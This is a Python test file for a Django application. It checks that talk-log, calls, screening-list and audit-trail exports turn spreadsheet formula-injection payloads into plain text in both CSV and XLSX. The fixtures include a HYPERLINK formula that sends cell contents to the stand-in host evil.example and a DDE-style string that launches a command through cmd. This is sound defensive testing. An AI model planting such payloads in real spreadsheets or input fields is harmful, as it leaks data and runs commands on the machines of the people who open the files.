"""Formula injection through the exports (issue 12, finding 1), end to end.

A probe stored ``=HYPERLINK(...)`` as a talk's topics at Stadt Siegen; the Kreis coordination's
XLSX export of the talk log then carried it as a live formula. The same held for the calls
export (title, area), the screening results (the name column of an uploaded list) and, in CSV,
for the audit trail (usernames, organisation names). Every export must hand such text back as
text: an apostrophe in CSV, a string cell with the quote prefix in XLSX.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from kim.audit.models import EventType
from kim.audit.record import record
from kim.organisations.models import Organisation
from kim.partners import actions
from kim.partners.actions import calls
from kim.programmes.models import Position
from kim.screening.actions.lists import screen_next_chunk, upload_list
from kim.screening.models import ListStatus
from tests.support import reauthenticated as _reauthenticated

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Details ansehen")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
LEBENSWEGE = "Lebenswege Wittgenstein gGmbH (Demo)"


def _user(username: str) -> Any:
    return get_user_model().objects.get(username=username)


def _xlsx_cells(content: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_text_cell(content: bytes, text: str) -> None:
    cells = _xlsx_cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    matching = [c for c in cells if c.value == text]
    assert matching, f"{text!r} not exported"
    assert all(c.data_type == "s" and c.quotePrefix for c in matching)


def _csv_values(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
    return [value for row in rows for value in row]


def test_talk_topics_stay_text_in_another_organisations_export(login_as: Any) -> None:
    actions.record_talk(
        acting_user=_user("siegen"),
        host=Organisation.objects.get(ags="05970040"),
        held_on=dt.date(2026, 3, 2),
        format="video",
        topics=HYPERLINK,
        traeger=[Organisation.objects.get(name=LEBENSWEGE)],
    )
    client = login_as("koordination")
    xlsx = client.get("/partner/gespraeche/export.xlsx")
    assert xlsx.status_code == 200
    _assert_text_cell(xlsx.content, HYPERLINK)
    values = _csv_values(client.get("/partner/gespraeche/export.csv").content)
    assert "'" + HYPERLINK in values and HYPERLINK not in values


def test_call_title_and_area_stay_text(login_as: Any) -> None:
    posts = list(
        Position.objects.filter(baustein="B2", employer_type="municipal", home__ags="05970040")
        .exclude(calls__status__in=["draft", "published"])
        .order_by("id")[:1]
    )
    calls.create_call(
        acting_user=_user("siegen"),
        issuer=Organisation.objects.get(ags="05970040"),
        title=HYPERLINK,
        baustein="B2",
        area=SUM,
        positions=posts,
        period_start=dt.date(2027, 7, 1),
        period_end=dt.date(2028, 12, 31),
        funding_per_vze=Decimal("57000.00"),
        deadline=dt.datetime(2027, 3, 31, 12, 0, tzinfo=ZoneInfo("Europe/Berlin")),
    )
    client = login_as("koordination")
    xlsx = client.get("/partner/interessenbekundungen/export.xlsx")
    assert xlsx.status_code == 200
    _assert_text_cell(xlsx.content, HYPERLINK)
    _assert_text_cell(xlsx.content, SUM)
    values = _csv_values(client.get("/partner/interessenbekundungen/export.csv").content)
    assert {"'" + HYPERLINK, "'" + SUM} <= set(values)


def test_screening_names_stay_text() -> None:
    header = "Aktenzeichen;Name;Geburtsdatum;Status 1;von 1"
    lines = [
        header,
        f'AZ-0001;"{HYPERLINK.replace(chr(34), chr(34) * 2)}";01.01.1990;duldung;01.01.2016',
    ]
    upload = SimpleUploadedFile("liste.csv", ("\n".join(lines) + "\n").encode("utf-8"))
    abh = _user("abh")
    screening_list = upload_list(
        acting_user=abh,
        organisation=Organisation.objects.get(name="Ausländerbehörde Kreis Siegen-Wittgenstein"),
        upload=upload,
        title="Formeltest",
        decision_date=dt.date(2026, 3, 2),
    )
    while screening_list.status != ListStatus.DONE:
        screening_list = screen_next_chunk(screening_list, acting_user=abh)
    client = _reauthenticated("abh")
    url = f"/screening/listen/{screening_list.code}/export/"
    xlsx = client.get(f"{url}xlsx/")
    assert xlsx.status_code == 200
    _assert_text_cell(xlsx.content, HYPERLINK)
    values = _csv_values(client.get(f"{url}csv/").content)
    assert "'" + HYPERLINK in values and HYPERLINK not in values


def test_audit_trail_csv_keeps_typed_names_as_text() -> None:
    dsb = _user("dsb")
    evil = get_user_model().objects.create_user(username="=cmd|x", password="demo")
    record(EventType.EXPORT_DOWNLOADED, actor=evil, subject_type=HYPERLINK, subject_code=SUM)
    client = _reauthenticated(dsb.username)
    response = client.get("/audit/export.csv")
    content = b"".join(response.streaming_content)
    values = _csv_values(content)
    assert {"'=cmd|x", "'" + HYPERLINK, "'" + SUM} <= set(values)
    assert not {"=cmd|x", HYPERLINK, SUM} & set(values)
